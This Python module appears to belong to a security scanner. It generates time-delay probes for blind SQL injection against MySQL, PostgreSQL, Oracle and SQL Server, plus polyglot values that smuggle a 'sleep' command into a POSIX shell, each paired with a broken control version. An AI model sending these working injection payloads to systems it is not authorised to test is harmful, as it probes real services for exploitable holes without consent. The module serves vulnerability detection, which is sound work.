"""SQL that makes a database wait: one value per system, for every kind of literal the value may stand in.

`A/*'+A+'"+A+"*/` is the expression A outside of quotes (the rest is a comment), and a sum of A with two pieces of
text inside single quotes as inside double quotes; `||` in place of `+` where that joins text. A waits once, however
many rows the statement has (a sub-select that depends on no row is evaluated once), and its value is NULL, so that
in a condition it matches nothing: what an UPDATE or DELETE would change stays as it is.
"""

from collections.abc import Iterator

from cyberai.checkkit.timing import DelayQuestion

_MYSQL = "(SELECT s+NULL FROM(SELECT SLEEP({d})s)v)"
_POSTGRESQL = "(SELECT NULL::{t} FROM pg_sleep({d}))"
_ORACLE = "(SELECT DECODE(DBMS_PIPE.RECEIVE_MESSAGE(CHR(97),{d}),1,NULL) FROM DUAL)"

_ANYWHERE = (
    ("MySQL", f"{_MYSQL}/*'+{_MYSQL}+'\"+{_MYSQL}+\"*/", "SLEEP(", "SLEEQ("),
    (
        "PostgreSQL",
        f"{_POSTGRESQL.replace('{t}', 'int')}/*'||{_POSTGRESQL.replace('{t}', 'text')}||'*/",
        "pg_sleep",
        "pg_sleeq",
    ),
    ("Oracle", f"{_ORACLE}/*'||{_ORACLE}||'*/", "RECEIVE_MESSAGE", "RECEIVE_MESSAQE"),
)

# What a POSIX shell runs behind the closing quote is a comment to a database.
_SHELL = "/*;sleep {d} #*/"

SLEEPS = f"/*'{_SHELL}+{_MYSQL}+'\"{_SHELL}+{_MYSQL}+\"*/;sleep {{d}} #"
"""Behind any text: inside quotes of either kind MySQL waits `{d}` seconds, and other databases know no such function;
inside quotes or outside of them a POSIX shell does."""

SLEEPS_BARE = f"'/*;sleep${{IFS}}{{d}};#*/+{_MYSQL.replace(' ', '/**/')}+';sleep${{IFS}}{{d}};#"
"""The same where neither blanks nor double quotes can be sent: inside single quotes, and for the shell outside."""

# A second statement with a comment behind it: only where the first one can be trusted to read.
_STACKED = (
    ("Microsoft SQL Server, number", "{v};WAITFOR DELAY '0:0:{d}'-- "),
    ("Microsoft SQL Server, string", "{v}';WAITFOR DELAY '0:0:{d}'-- "),
    ("PostgreSQL, string and a second statement", "{v}';SELECT pg_sleep({d})-- "),
)
_STACKED_BROKEN = (("WAITFOR DELAY", "WAITFUR DELAY"), ("pg_sleep", "pg_sleeq"))


def delay_questions(value: str, *, reading: bool) -> Iterator[DelayQuestion]:
    """The questions for a place with this original value; `reading`: the statement can be trusted to read."""
    for system, pattern, name, broken in _ANYWHERE:
        yield _question(system, pattern, ((name, broken),))
    if not reading:
        return
    number = value.strip().lstrip("-").isdecimal()
    for system, pattern in _STACKED:
        if number or "number" not in system:
            yield _question(system, pattern.replace("{v}", value), _STACKED_BROKEN)


def _question(system: str, pattern: str, broken: tuple[tuple[str, str], ...]) -> DelayQuestion:
    def ask(seconds: int) -> str:
        return pattern.replace("{d}", str(seconds))

    def nonsense(seconds: int) -> str:
        text = ask(seconds)
        for name, other in broken:
            text = text.replace(name, other)
        return text

    return DelayQuestion(system, ask, nonsense)
